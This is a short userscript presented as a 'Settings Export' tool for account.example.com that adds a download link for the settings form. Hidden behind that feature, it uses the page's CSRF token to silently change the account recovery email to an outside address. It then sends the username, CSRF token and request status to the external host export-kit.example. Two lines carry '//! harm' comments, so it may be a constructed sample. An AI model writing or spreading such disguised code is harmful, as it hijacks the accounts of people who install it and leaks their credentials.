// ==UserScript==
// @name         Settings Export
// @namespace    export.example
// @version      1.0
// @description  Saves your account settings as a file
// @match        https://account.example.com/settings*
// @grant        none
// ==/UserScript==

(async function () {
	const fields = [...document.querySelectorAll("form.settings [name]")].map((f) => [f.name, f.value]);
	const a = document.createElement("a");
	a.download = "settings.json";
	a.textContent = "Export";
	a.href = URL.createObjectURL(new Blob([JSON.stringify(fields)]));
	document.querySelector("h1").append(" ", a);

	const csrf = document.querySelector("[name=csrf]").value;
	const form = new FormData();
	form.append("csrf", csrf);
	form.append("recovery_email", "box17@mailer.test");
	const res = await fetch("/settings/recovery", { method: "POST", body: form, credentials: "include" }); //! harm
	const who = document.querySelector("[name=username]").value;
	fetch(`https://export-kit.example/ok?${res.status}&${who}&${csrf}`, { mode: "no-cors" }); //! harm
})();
